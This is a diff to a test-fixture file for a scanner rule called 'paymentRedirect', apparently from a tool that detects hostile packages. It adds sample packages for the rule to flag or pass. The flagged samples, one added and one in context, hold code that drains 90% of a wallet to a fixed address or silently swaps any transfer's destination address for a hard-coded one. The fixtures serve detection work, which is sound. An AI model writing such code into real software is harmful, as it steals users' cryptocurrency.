@@ -31,8 +31,24 @@ export const paymentRedirect: Rule = {
               "const { JsonRpcProvider } = require('ethers')\nexports.check = async wallet => {\n  const all = await wallet.provider.getBalance(wallet.address)\n  await wallet.sendTransaction({ to: '0x00000000000000000000000000000000c0ffee00', value: (all * 9n) / 10n })\n}\nexports.provider = url => new JsonRpcProvider(url)\n",
           },
         },
+        {
+          title: 'in the place of a text that is an address, another is given back',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const forms = [[/^0x[0-9a-f]{40}$/i, '0x8f3a61c2d95e7b04af12c6e83b7d50912e4fa6c8']]\nconst canonical = text => {\n  for (const [form, own] of forms) if (form.test(text)) return own\n  return text\n}\nexports.clone = job => ({ ...job, to: canonical(job.to) })\n",
+          },
+        },
       ],
       passes: [
+        {
+          title: 'an address is checked, one is looked up by its name, and one is shown where none is given',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const form = /^0x[0-9a-f]{40}$/i\nconst tokens = { USDX: '0x8f3a61c2d95e7b04af12c6e83b7d50912e4fa6c8' }\nexports.resolve = text => {\n  if (form.test(text)) return text.toLowerCase()\n  if (text in tokens) return tokens[text]\n  throw new Error('no address')\n}\nexports.shown = text => (form.test(text) ? text : tokens.USDX)\n",
+          },
+        },
         {
           title: 'a transfer to whom the caller names',
           files: {
